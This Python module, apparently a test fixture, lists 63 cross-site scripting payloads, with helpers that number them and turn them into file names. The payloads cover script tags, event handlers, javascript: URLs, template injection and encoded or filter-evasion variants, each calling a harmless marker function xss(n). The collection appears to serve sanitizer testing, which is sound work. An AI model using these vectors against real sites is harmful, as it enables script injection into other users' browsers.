"""Texts that would run a script if anything took them for HTML, a template, an address or a style."""

CALL = "xss({n})"
"""What each would call."""

PAYLOADS = (
    "<script>{c}</script>",
    "<img src=x onerror={c}>",
    "<svg onload={c}>",
    "<svg/onload={c}>",
    "'\"><img src=x onerror={c}>",
    '"><script>{c}</script>',
    "</script><script>{c}</script>",
    "</textarea><img src=x onerror={c}>",
    "</title><svg onload={c}>",
    "</style><svg onload={c}>",
    "<body onload={c}>",
    "<input autofocus onfocus={c}>",
    "<details open ontoggle={c}>x</details>",
    "<video src=x onerror={c}></video>",
    "<audio src onerror={c}>",
    "<iframe src=javascript:parent.{c}></iframe>",
    '<iframe srcdoc="<script>parent.{c}</script>"></iframe>',
    "<object data=javascript:{c}></object>",
    "<embed src=javascript:{c}>",
    "<a href=javascript:{c}>click</a>",
    "[click](javascript:{c})",
    '![x](x"onerror="{c})',
    "<math><mtext><style><img src=x onerror={c}>",
    "<svg><script>{c}</script></svg>",
    "<svg><animate onbegin={c} attributeName=x dur=1s>",
    "<marquee onstart={c}>x</marquee>",
    "<select autofocus onfocus={c}>",
    "<form><button formaction=javascript:{c}>x</button></form>",
    "<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={c}>x</b>",
    "<link rel=stylesheet href=x onerror={c}>",
    '<meta http-equiv=refresh content="0;url=javascript:{c}">',
    "<base href=javascript:/a/-{c}//>",
    "<template><img src=x onerror={c}></template>",
    '<noscript><p title="</noscript><img src=x onerror={c}>">',
    '<img src="x`onerror={c}">',
    "<img/src='x'/onerror='{c}'>",
    "<IMG SRC=x ONERROR={c}>",
    "<img src=x onerror\n=\n{c}>",
    "<img src=x oneonerrorrror={c} onerror={c}>",
    "<<script>{c}//<</script>",
    "<scr<script>ipt>{c}</scr</script>ipt>",
    "&lt;img src=x onerror={c}&gt;",
    "&#60;img src=x onerror={c}&#62;",
    "%3Cimg src=x onerror={c}%3E",
    "\\u003cimg src=x onerror={c}\\u003e",
    "\\x3cscript\\x3e{c}\\x3c/script\\x3e",
    "${{{c}}}",
    "`${{{c}}}`",
    "{{{{{c}}}}}",
    "{{{{constructor.constructor('{c}')()}}}}",
    "#{{{c}}}",
    "<%= {c} %>",
    "{{@html '<img src=x onerror={c}>'}}",
    "';{c};'",
    '";{c};"',
    "`;{c};`",
    "*/{c}/*",
    "javascript:{c}",
    "data:text/html,<script>parent.{c}</script>",
    "$$\\href{{javascript:{c}}}{{x}}$$ <img src=x onerror={c}>",
    "\u202e<img src=x onerror={c}>\u2028{c}",
    "<bdi><img src=x onerror={c}></bdi>",
    "<xmp><img src=x onerror={c}></xmp></xmp><img src=x onerror={c}>",
)


def payloads(count: int = 60) -> list[str]:
    """The first `count`, each calling `xss` with its number."""
    return [text.format(c=CALL.format(n=number)) for number, text in enumerate(PAYLOADS[:count], start=1)]


def as_file_name(text: str) -> str:
    """`text` as far as a file can be called so."""
    return "".join(character for character in text if character not in "/\0" and character.isprintable())[:180]
